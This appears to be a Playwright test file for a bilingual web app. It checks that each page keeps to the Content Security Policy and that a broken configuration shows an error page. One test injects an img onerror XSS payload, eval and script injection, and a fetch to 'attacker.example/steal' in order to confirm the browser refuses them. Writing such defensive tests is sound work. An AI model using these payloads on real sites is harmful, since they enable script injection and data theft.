import type { Page } from '@playwright/test';
import { findPersona } from '../../mocks/personas.ts';
import { expect, test } from './fixtures.ts';

// The journey and the phone codes run under the shipped policy too; here is every other page of the app, and that the policy
// is there at all.

/** Listens for what the browser refuses: each entry names the rule, what it met, and where. */
async function violationsOf(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('noteViolation', (violation: string) => violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective, blockedURI, sourceFile, lineNumber } = event;
      const note = (window as unknown as { noteViolation: (violation: string) => void }).noteViolation;
      note(`${effectiveDirective} ${blockedURI} (${sourceFile}:${lineNumber}) on ${location.pathname}`);
    });
  });
  return violations;
}

/** Opens one half of the pages in each language: all of them are seen, none twice. */
async function visit(page: Page, language: 'en' | 'ar', paths: readonly string[]): Promise<void> {
  for (const path of paths.filter((_path, at) => (at % 2 === 0) === (language === 'en'))) {
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    await expect(page.locator('main [aria-busy="true"]')).toHaveCount(0);
    // Pictures further down are loaded as they come near.
    await page.evaluate(() => {
      window.scrollTo(0, document.body.scrollHeight);
    });
  }
}

test('R01 R32 Every page that a visitor reaches keeps to the policy that it is served under', async ({
  page,
  language,
  message,
  allowComplaint,
}) => {
  allowComplaint(/Failed to load resource: the server responded with a status of 404 .*\/nowhere\)/);
  const violations = await violationsOf(page);
  await visit(page, language, [
    '/',
    '/about',
    '/blog',
    '/blog/1',
    '/contact',
    '/event',
    '/meals',
    '/packages',
    '/packages/1',
    '/policy',
    '/signin',
    '/signup',
    '/forgetPassword',
    '/nowhere',
  ]);
  // A dialog holds the page still, which libraries like to do with a style element.
  await page.goto('/meals?meal=1');
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toBeHidden();
  await page.goto('/contact');
  await page.getByRole('button', { name: message('contact.form.send') }).click();
  await expect(page.locator('[aria-invalid="true"]').first()).toBeVisible();
  expect(violations).toEqual([]);
});

test('R33 H06 Every page of a signed-in parent keeps to the policy, the making of the PDF too', async ({
  page,
  language,
  message,
  origins,
}) => {
  const { account } = findPersona('huda');
  await page.addInitScript(
    ([origin, token, userId]) => {
      if (self.origin !== origin) return;
      const session = { TOKEN: token, USER_ID: userId, USER_TYPE: 'user', IS_VERIFIED: 'true' };
      for (const [key, value] of Object.entries(session)) localStorage.setItem(key, value);
    },
    [origins.app, account?.token ?? '', String(account?.userId)] as const,
  );
  const violations = await violationsOf(page);
  await visit(page, language, [
    '/notification',
    '/cart/choose-applicants',
    '/cart/add-applicant',
    '/profile',
    '/profile/my-account/account-setting',
    '/profile/my-account/account-setting/edit',
    '/profile/my-account/applicants',
    '/profile/my-account/applicants/add-applicants',
    '/profile/my-orders/current-orders',
    '/profile/my-orders/history',
    '/profile/my-orders/order',
    '/profile/my-orders/payment',
  ]);
  await page.goto('/profile/my-orders/report/2018');
  const file = page.waitForEvent('download');
  await page.getByRole('button', { name: message('report.download') }).click();
  expect((await file).suggestedFilename()).toMatch(/\.pdf$/);
  expect(violations).toEqual([]);
});

test('R01 What was slipped into a page neither runs nor calls out', async ({ page, allowComplaint }) => {
  allowComplaint(/Content Security Policy|TrustedHTML|TrustedScript|Refused to/);
  const violations = await violationsOf(page);
  await page.goto('/about');
  const outcome = await page.evaluate(async () => {
    const attempts: Record<string, () => unknown> = {
      script: () => {
        const script = document.createElement('script');
        script.textContent = 'window.slippedIn = true';
        document.head.append(script);
      },
      markup: () => {
        document.body.innerHTML = '<img src=x onerror="window.slippedIn = true">';
      },
      // From a timer: what a debugger asks for may evaluate.
      evaluation: async () =>
        new Promise((resolve, reject) => {
          setTimeout(() => {
            try {
              // oxlint-disable-next-line eslint/no-eval -- the point of the test is that it does not run
              resolve(window.eval('window.slippedIn = true'));
            } catch (error) {
              reject(error);
            }
          });
        }),
      call: async () => fetch('https://attacker.example/steal'),
    };
    const refused: string[] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        await attempt();
      } catch {
        refused.push(name);
      }
    }
    return { refused, slippedIn: 'slippedIn' in window };
  });
  expect(outcome).toEqual({ refused: ['script', 'markup', 'evaluation', 'call'], slippedIn: false });
  const rules = () => [...new Set(violations.map((each) => each.replace(/ .*$/, '')))].toSorted();
  await expect.poll(rules).toEqual(['connect-src', 'require-trusted-types-for']);
});

test('R09 A configuration that is not right shows one page in both languages, which says where the fault is', async ({
  page,
  axe,
  allowComplaint,
}) => {
  allowComplaint(/Failed to load resource.*config\.json|preloaded using link preload/);
  let body = '{"apiOrigin": "nabta.example"}';
  await page.route('**/config.json', async (route) =>
    route.fulfill({ status: body === '' ? 404 : 200, contentType: 'application/json', body }),
  );
  await page.goto('/packages');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText([
    'Nabta can’t be opened right now',
    'يتعذّر فتح نبتة الآن',
  ]);
  await expect(page.getByText('config.json: apiOrigin, firebase, brand')).toBeVisible();
  await axe();
  body = '';
  await page.getByRole('link', { name: 'Try again' }).click();
  await expect(page.getByText('config.json: not found, or not JSON')).toBeVisible();
  // Mended by the operator: the parent's next try opens the page that was asked for.
  await page.unroute('**/config.json');
  await page.getByRole('link', { name: 'حاول مرة أخرى' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1);
  await expect(page).toHaveURL(/\/packages$/);
});
